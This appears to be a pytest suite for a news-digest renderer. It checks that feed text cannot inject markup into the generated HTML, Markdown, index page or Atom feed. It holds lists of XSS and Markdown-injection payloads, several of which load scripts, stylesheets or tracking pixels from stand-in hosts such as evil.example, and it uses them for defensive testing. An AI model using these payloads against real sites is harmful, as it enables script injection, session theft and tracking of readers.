"""Feed-supplied text cannot inject anything into a digest: HTML, Markdown, index.html and feed.xml.

Each payload is put into one field of an otherwise ordinary digest; the
rendered page is parsed with the stdlib html.parser (as a browser would
tokenize it) and checked against an allowlist of elements and attributes.
The payload must still be there, as text, in the element it belongs to.
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, datetime, timezone
from html.parser import HTMLParser
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from monitor.digest import (
    Digest,
    DigestItem,
    FeedHealth,
    Source,
    TagTrend,
    build_digest,
    render_html,
    render_markdown,
    write_digest,
    write_index,
)
from core.types import Match

UTC = timezone.utc
DAY = date(2026, 11, 23)
AT = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
GENERATED = datetime(2026, 11, 24, 6, 0, tzinfo=UTC)
SAFE_URL = "https://news.example/ok"

TEXT_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://track.example/pixel.gif" width="1" height="1">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<style>body{background:url(https://track.example/p.gif)}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<iframe src=https://evil.example/></iframe>",
    "<b onmouseover=alert(1)>unclosed",
    "<img src=x onerror=alert(1)",  # unclosed tag at the end of the text
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",  # already entity-encoded: must show literally
    "<!-- unclosed comment",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav&#x61;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "//evil.example/protocol-relative",
    "https:evil.example",  # no host
    "http://",
    "\\\\evil.example\\share",
    "https://evil.example\\@news.example/",
    "ftp://files.example/x",
    "",
]

# http(s), so linked, but they must stay inside one quoted attribute.
ODD_GOOD_URLS = [
    'https://news.example/a"onmouseover="alert(1)',
    "https://news.example/b'><script>alert(1)</script>",
    "HTTPS://NEWS.EXAMPLE/c?x=<img/src=x/onerror=alert(1)>",
    "https://news.example/d#&quot;onclick=alert(1)",
]

ALLOWED_ELEMENTS = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "span", "b",
    "ul", "ol", "li", "a", "div", "mark", "table", "tr", "td",
}
ALLOWED_ATTRIBUTES = {"lang", "charset", "name", "content", "http-equiv", "class", "href", "rel"}
OUR_META = [
    {"charset": "utf-8"},
    {"name": "viewport", "content": "width=device-width, initial-scale=1"},
    {
        "http-equiv": "Content-Security-Policy",
        "content": "default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'",
    },
    {"name": "referrer", "content": "no-referrer"},
]
VOID = {"meta", "br", "hr", "img", "input", "link", "base", "embed", "col", "source", "wbr", "area", "param"}


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    parent: Element | None
    page: Page
    text: list[str] = field(default_factory=list)

    @property
    def cls(self) -> str:
        return dict(self.attrs).get("class") or ""

    def full_text(self) -> str:
        return "".join(self.text)

    def find(self, tag: str) -> Element:
        """The first element `tag` inside this one."""
        return next(e for e in self.page.elements if e.tag == tag and self in e.ancestors())

    def ancestors(self) -> list[Element]:
        out, p = [], self.parent
        while p is not None:
            out.append(p)
            p = p.parent
        return out


class Page(HTMLParser):
    """Every element (with its attributes and all the text inside it) of one HTML document."""

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.comments: list[str] = []
        self._open: list[Element] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        el = Element(tag, attrs, self._open[-1] if self._open else None, self)
        self.elements.append(el)
        if tag not in VOID:
            self._open.append(el)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, attrs, self._open[-1] if self._open else None, self))

    def handle_endtag(self, tag: str) -> None:
        # Our own markup is well nested; anything else shows up as a mismatch.
        assert self._open and self._open[-1].tag == tag, f"unbalanced </{tag}>"
        self._open.pop()

    def handle_data(self, data: str) -> None:
        for el in self._open:
            el.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        assert decl.lower() == "doctype html"

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"unexpected declaration <![{data}]>")

    def tags(self, tag: str) -> list[Element]:
        return [e for e in self.elements if e.tag == tag]

    def with_class(self, tag: str, cls: str) -> list[Element]:
        return [e for e in self.elements if e.tag == tag and cls in e.cls.split()]


def assert_safe(markup: str, allowed_hrefs: set[str]) -> Page:
    page = Page(markup)
    assert page._open == [], "elements left open"
    assert page.comments == []
    for el in page.elements:
        assert el.tag in ALLOWED_ELEMENTS, f"<{el.tag}> in the page"
        for name, value in el.attrs:
            assert name in ALLOWED_ATTRIBUTES, f"attribute {name}={value!r} on <{el.tag}>"
            assert not name.startswith("on")
            assert name != "src" and name != "style"
    assert not page.tags("script")
    for forbidden in ("img", "iframe", "svg", "object", "embed", "link", "base", "form", "input", "textarea"):
        assert not page.tags(forbidden), forbidden
    assert [dict(m.attrs) for m in page.tags("meta")] == OUR_META
    assert len(page.tags("style")) == 1 and page.tags("style")[0].parent is not None
    assert page.tags("style")[0].parent.tag == "head"  # type: ignore[union-attr]
    css = page.tags("style")[0].full_text()
    assert "url(" not in css and "@import" not in css and "expression" not in css
    assert len(page.tags("title")) == 1 and page.tags("title")[0].full_text().startswith("Partnership digest")
    for a in page.tags("a"):
        href = dict(a.attrs)["href"] or ""
        assert re.match(r"(?i)^https?://[^/\\\s]", href), href
        assert href in allowed_hrefs, href
        assert dict(a.attrs)["rel"] == "noopener noreferrer"
    return page


# ------------------------------------------------------------------ building digests with one poisoned field


def make_item(**kw: object) -> DigestItem:
    base: dict[str, object] = dict(
        id=1, url=SAFE_URL, title="Plain title", feed="Plain feed", published=AT, score=3.0,
        tags=["partnership"], tag_scores={"partnership": 3.0}, matches=[], snippet_text="Plain text about Azure.",
    )
    base.update(kw)
    return DigestItem(**base)  # type: ignore[arg-type]


def digest_of(items: list[DigestItem], failing: list[FeedHealth] = (), trends: list[TagTrend] = ()) -> Digest:  # type: ignore[assignment]
    return build_digest(
        DAY, ZoneInfo("Europe/Berlin"), items, list(failing), tag_order=["partnership"], generated_at=GENERATED,
        trends=list(trends),
    )


def failing(name: str = "Broken feed", url: str = "https://broken.example/feed", error: str = "HTTP 500") -> FeedHealth:
    return FeedHealth(name, url, datetime(2026, 11, 22, 3, 0, tzinfo=UTC), 4, error)


def li_of_item(page: Page) -> Element:
    (li,) = [e for e in page.tags("li") if e.parent is not None and e.parent.tag == "ol"]
    return li


# field name -> (build a digest with the payload there, where it must show up as text)
Placement = tuple[Callable[[str], Digest], Callable[[Page], str]]
PLACES: dict[str, Placement] = {
    "title": (
        lambda p: digest_of([make_item(title=p)]),
        lambda page: li_of_item(page).find("a").full_text(),
    ),
    "title with highlight": (
        lambda p: digest_of([make_item(title="OpenAI " + p, matches=[Match("r", "openai", "title", 0, 6)])]),
        lambda page: page.tags("mark")[0].full_text() + li_of_item(page).full_text(),
    ),
    "feed name": (
        lambda p: digest_of([make_item(feed=p)]),
        lambda page: page.with_class("div", "meta")[0].full_text(),
    ),
    "snippet text": (
        lambda p: digest_of([make_item(snippet_text="Azure " + p, matches=[Match("r", "azure", "text", 0, 5)])]),
        lambda page: page.with_class("div", "snippet")[0].full_text(),
    ),
    "tag name": (
        lambda p: digest_of([make_item(tags=[p, "partnership"], tag_scores={p: 5.0, "partnership": 1.0})]),
        lambda page: " ".join(h.full_text() for h in page.tags("h2")) + page.with_class("p", "counts")[0].full_text(),
    ),
    "other tag name": (
        lambda p: digest_of([make_item(tags=["partnership", p], tag_scores={"partnership": 5.0, p: 1.0})]),
        lambda page: page.with_class("div", "tags")[0].full_text(),
    ),
    "also-source feed": (
        lambda p: digest_of([make_item(also=[Source(p, "https://other.example/x", "Other title", AT)])]),
        lambda page: page.with_class("div", "also")[0].full_text(),
    ),
    "failing feed name": (
        lambda p: digest_of([make_item()], [failing(name=p)]),
        lambda page: page.with_class("ul", "meta")[0].full_text(),
    ),
    "failing feed error": (
        lambda p: digest_of([make_item()], [failing(error=p)]),
        lambda page: page.with_class("span", "warn")[0].full_text(),
    ),
    "trend tag": (
        lambda p: digest_of([make_item()], trends=[TagTrend(p, [DAY], [1])]),
        lambda page: page.tags("table")[0].full_text(),
    ),
}
BASE_HREFS = {SAFE_URL, "https://other.example/x", "https://broken.example/feed"}


@pytest.mark.parametrize("place", list(PLACES))
@pytest.mark.parametrize("payload", TEXT_PAYLOADS)
def test_text_payload_is_inert_and_still_shown(place: str, payload: str) -> None:
    build, where = PLACES[place]
    page = assert_safe(render_html(build(payload)), BASE_HREFS)
    assert payload in where(page)


@pytest.mark.parametrize("url", BAD_URLS)
def test_non_http_urls_are_never_links(url: str) -> None:
    d = digest_of(
        [make_item(url=url, title="Item title", also=[Source("Other outlet", url, "t", AT)])],
        [failing(name="Broken feed", url=url)],
    )
    page = assert_safe(render_html(d), set())
    assert page.tags("a") == []
    # The text is still there, unlinked.
    assert "Item title" in li_of_item(page).full_text()
    assert "Other outlet" in page.with_class("div", "also")[0].full_text()
    assert "Broken feed" in page.with_class("ul", "meta")[0].full_text()
    md = render_markdown(d)
    assert markdown_link_targets(md) == []
    assert "[Item title]" not in md


@pytest.mark.parametrize("url", ODD_GOOD_URLS)
def test_http_urls_with_quotes_and_tags_stay_one_attribute(url: str) -> None:
    d = digest_of([make_item(url=url, also=[Source("Other outlet", url, "t", AT)])], [failing(url=url)])
    page = assert_safe(render_html(d), {url})
    assert [dict(a.attrs)["href"] for a in page.tags("a")] == [url, url, url]


def test_all_payloads_at_once_in_every_field() -> None:
    """One page with every payload everywhere: the checks still hold (nothing leaks between fields)."""
    items = [
        make_item(
            id=n, url=BAD_URLS[n % len(BAD_URLS)], title=p, feed=p, snippet_text=p, tags=[p], tag_scores={p: 1.0},
            also=[Source(p, BAD_URLS[(n + 1) % len(BAD_URLS)], p, AT)],
        )
        for n, p in enumerate(TEXT_PAYLOADS)
    ]
    fails = [failing(name=p, url=BAD_URLS[n % len(BAD_URLS)], error=p) for n, p in enumerate(TEXT_PAYLOADS)]
    page = assert_safe(render_html(digest_of(items, fails)), set())
    body = page.tags("main")[0].full_text()
    for p in TEXT_PAYLOADS:
        assert body.count(p) >= 5  # title, feed, snippet, section heading, failing feed (and more)


def test_page_is_self_contained_and_made_for_phones_and_dark_mode() -> None:
    markup = render_html(digest_of([make_item()]))
    page = assert_safe(markup, BASE_HREFS)
    css = page.tags("style")[0].full_text()
    assert "prefers-color-scheme:dark" in css.replace(" ", "")
    assert "color-scheme:light dark" in css
    assert {"name": "viewport", "content": "width=device-width, initial-scale=1"} in [dict(m.attrs) for m in page.tags("meta")]
    assert not re.search(r"(?i)\bsrc\s*=|<script|@import|url\(|<link", markup)


# ------------------------------------------------------------------ Markdown

_MD_LINK = re.compile(r"(?<!\\)\]\(([^)\s]*)\)")


def markdown_link_targets(md: str) -> list[str]:
    """Destinations of inline links: `](...)` whose `]` is not escaped."""
    return _MD_LINK.findall(md)


@pytest.mark.parametrize(
    "title",
    [
        "Deal](javascript:alert(1))",
        "x](javascript:alert(1)) [y",
        "[click](javascript:alert(1))",
        "![pixel](https://track.example/p.gif)",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "Deal\\](javascript:alert(1))",  # a backslash of its own must not un-escape our escape
        "`code](javascript:alert(1))`",
        "Deal\n\n# Heading\n- list\n> quote",
        "<https://evil.example/autolink>",
        "[ref]: https://evil.example/ref",
    ],
)
def test_markdown_title_cannot_break_out_of_its_link(title: str) -> None:
    d = digest_of([make_item(title=title, feed=title, snippet_text=title, also=[Source(title, "https://other.example/x", "t", AT)])])
    md = render_markdown(d)
    assert sorted(markdown_link_targets(md)) == ["https://news.example/ok", "https://other.example/x"]
    assert not re.search(r"(?<!\\)<[A-Za-z!/]", md), "raw HTML or an autolink in the Markdown"
    assert not re.search(r"(?<!\\)!\[", md), "an image in the Markdown"
    # Every odd run of backslashes before a bracket is an escape: no bracket is left live but ours.
    item_lines = [line for line in md.splitlines() if line.startswith(("1. ", "   "))]
    assert len(item_lines) == 4  # title, meta, also covered by, snippet: newlines in feed text never start new blocks
    assert not any(line.lstrip().startswith(("#", "- ", "[ref]")) for line in item_lines[1:3])


@pytest.mark.parametrize(
    ("feed", "escaped"),
    [("- dash feed", "\\- dash feed"), ("1. Numbered feed", "1\\. Numbered feed"), ("2026) Feed", "2026\\) Feed"),
     ("= Feed", "\\= Feed"), ("Mid-dash 1. feed", "Mid-dash 1. feed")],
)
def test_markdown_feed_name_opens_no_list_under_the_item(feed: str, escaped: str) -> None:
    md = render_markdown(digest_of([make_item(feed=feed)]))
    assert f"\n   {escaped}, 10:30, score 3" in md


# ------------------------------------------------------------------ index.html and feed.xml


def test_index_and_atom_feed_escape_feed_text(tmp_path: Path) -> None:
    items = [
        make_item(id=n, title=p + "\x0b\x00", tags=[p], tag_scores={p: 1.0}, url=BAD_URLS[n % len(BAD_URLS)])
        for n, p in enumerate(TEXT_PAYLOADS)
    ]
    write_digest(digest_of(items), tmp_path, ("json",))
    write_index(tmp_path, generated_at=GENERATED, site_title="<script>alert('site')</script>")
    index = (tmp_path / "index.html").read_text(encoding="utf-8")
    page = Page(index)
    for el in page.elements:
        assert el.tag in ALLOWED_ELEMENTS and not any(n.startswith("on") or n == "src" for n, _ in el.attrs)
    assert [dict(a.attrs)["href"] for a in page.tags("a")] == ["2026-11-23.html"]
    assert page.tags("h1")[0].full_text() == "<script>alert('site')</script>"
    assert TEXT_PAYLOADS[0] in page.tags("li")[0].full_text()  # tag names in the counts, as text

    feed = ET.parse(tmp_path / "feed.xml").getroot()  # well-formed despite the control characters
    ns = "{http://www.w3.org/2005/Atom}"
    assert feed.findtext(f"{ns}title") == "<script>alert('site')</script>"
    (entry,) = feed.findall(f"{ns}entry")
    content = entry.findtext(f"{ns}content") or ""
    inner = Page(content)  # the entry's HTML, once unescaped from the XML
    assert {e.tag for e in inner.elements} <= {"p", "ul", "li"}
    doc = json.loads((tmp_path / "2026-11-23.json").read_text(encoding="utf-8"))  # the JSON itself stays valid
    top_titles = [i["title"] for i in doc["items"][:5]]
    assert all(t.endswith("\x0b\x00") for t in top_titles)  # the JSON keeps the text as it came
    # The characters XML forbids became U+FFFD; the rest is the payload, as text.
    assert [e.full_text() for e in inner.tags("li")] == [t[:-2] + "\ufffd\ufffd" for t in top_titles]
    assert TEXT_PAYLOADS[0] in inner.tags("p")[0].full_text()  # tag names in the counts line


def test_trend_drawings_are_ours_and_plain_numbers_without_them() -> None:
    from monitor.trends import sparkline_svg

    payload = TEXT_PAYLOADS[6]  # <svg onload=alert(1)>
    d = digest_of([make_item()], trends=[TagTrend(payload, [DAY, DAY], [3, 9], spike=True)])
    drawn = Page(render_html(d, sparkline=lambda counts, spike: sparkline_svg(counts, spike=spike)))
    (svg,) = drawn.tags("svg")
    assert svg.parent is not None and svg.parent.tag == "td"
    drawing = [e for e in drawn.elements if e is svg or svg in e.ancestors()]
    assert {e.tag for e in drawing} == {"svg", "title", "polyline", "circle"}
    assert not any(n.startswith("on") or n in ("href", "src", "xlink:href", "style") for e in drawing for n, _ in e.attrs)
    assert drawn.tags("td")[0].full_text() == payload  # the tag name stays text, outside the drawing
    plain = assert_safe(render_html(d), BASE_HREFS)  # e-mail: no drawing, the counts as text
    assert [td.full_text() for td in plain.tags("td")] == [payload, "3 9", "9 spike"]
